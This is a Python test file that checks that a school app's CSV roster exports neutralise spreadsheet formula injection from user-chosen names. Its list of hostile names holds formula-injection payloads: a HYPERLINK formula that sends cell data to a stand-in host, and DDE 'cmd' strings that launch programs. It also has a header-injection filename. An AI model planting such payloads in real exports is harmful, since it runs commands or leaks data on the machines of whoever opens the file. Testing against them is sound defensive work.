"""Spreadsheet formulas in exports (Trust issue, finding 2), written as the attack.

A name chosen by its owner (the HR file, the profile's preferred name) reaches a lead's roster export;
opened in a spreadsheet, a cell starting with = + - @ would run. Names are kept as typed (people may
really be called "-Ann"); every export neutralises them through belong.csv_export.
"""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from accounts.models import User
from accounts.staff_import import staff_import
from belong.csv_export import csv_lines, csv_response, safe_cell
from tests.accounts.factories import person, roster_csv
from tests.factories import SchoolFactory, UserFactory

from .factories import GroupFactory, LeadFactory, MembershipFactory

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")

HOSTILE_NAMES = [
    '=HYPERLINK("http://x?"&B2,"Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    '\uff1dHYPERLINK("http://x")',
]


@pytest.mark.parametrize("value", HOSTILE_NAMES)
def test_it_neutralises_every_formula_start(value):
    cell = safe_cell(value)
    assert cell == "'" + value


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (-12, -12),
        (Decimal("-3.5"), Decimal("-3.5")),
        (2.5, 2.5),
        ("-12.5", "-12.5"),
        ("+7", "+7"),
        ("-Ann", "'-Ann"),
        ("-1+1", "'-1+1"),
        ("Ann", "Ann"),
        ("", ""),
        (None, ""),
        (True, "True"),
    ],
)
def test_it_keeps_numbers_as_numbers_and_quotes_the_rest(value, expected):
    assert safe_cell(value) == expected


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def _assert_no_formula(cells: list[str]) -> None:
    live = [cell for cell in cells if cell.lstrip(" ").startswith(FORMULA_STARTS)]
    assert not live, live


def test_it_writes_whole_files_and_headers_through_the_same_rule():
    response = csv_response('x"; evil.csv', ["=header"], [["=a", 1], ["-b", -2]])
    assert response["Content-Disposition"] == 'attachment; filename="x-evil.csv"'
    assert response["Cache-Control"] == "no-store"
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows == [["'=header"], ["'=a", "1"], ["'-b", "-2"]]
    assert "".join(csv_lines(["a"], [], bom=True)).startswith("\ufeff")


def _export(client, group) -> list[list[str]]:
    response = client.post(f"/groups/{group.slug}/roster.csv", {"purpose": "Sign-in sheet for March"})
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode(), newline="")))


@pytest.mark.django_db
def test_it_exports_hostile_names_from_the_hr_import_as_text(client):
    school = SchoolFactory()
    rows = [person(n, school, full_name=name) for n, name in enumerate(HOSTILE_NAMES)]
    rows.append(person(99, school, full_name="Ann Plain", email="-ann@district.example"))
    result = staff_import(roster_csv(rows), full=False, dry_run=False)
    assert result.ok, result.errors
    # Kept as typed: the name is the person's, only its export is neutralised.
    assert User.objects.get(email="person0@district.example").full_name == HOSTILE_NAMES[0]

    group = GroupFactory()
    lead = LeadFactory(group=group).user
    for user in User.objects.filter(email__in=[row["email"] for row in rows]):
        MembershipFactory(group=group, user=user)
    client.force_login(lead)
    exported = _export(client, group)

    assert len(exported) == 1 + 1 + len(rows)
    _assert_no_formula([cell for row in exported for cell in row])
    names = {row[0] for row in exported[1:]}
    assert "'" + HOSTILE_NAMES[0] in names
    assert "'-ann@district.example" in {row[1] for row in exported[1:]}


@pytest.mark.django_db
@pytest.mark.parametrize("name", HOSTILE_NAMES[:4])
def test_it_exports_a_hostile_preferred_name_from_the_profile_as_text(client, name):
    group = GroupFactory()
    lead = LeadFactory(group=group).user
    # Self sign-up asks only for an e-mail address: the name comes from the profile.
    signed_up = UserFactory(full_name="", preferred_name="")
    MembershipFactory(group=group, user=signed_up)
    client.force_login(signed_up)
    saved = client.post("/me/", {"preferred_name": name, "preferred_language": "en"})
    assert saved.status_code == 302
    signed_up.refresh_from_db()
    assert signed_up.preferred_name == name.strip()

    client.force_login(lead)
    exported = _export(client, group)
    _assert_no_formula([cell for row in exported for cell in row])
    assert "'" + name.strip() in {row[0] for row in exported[1:]}
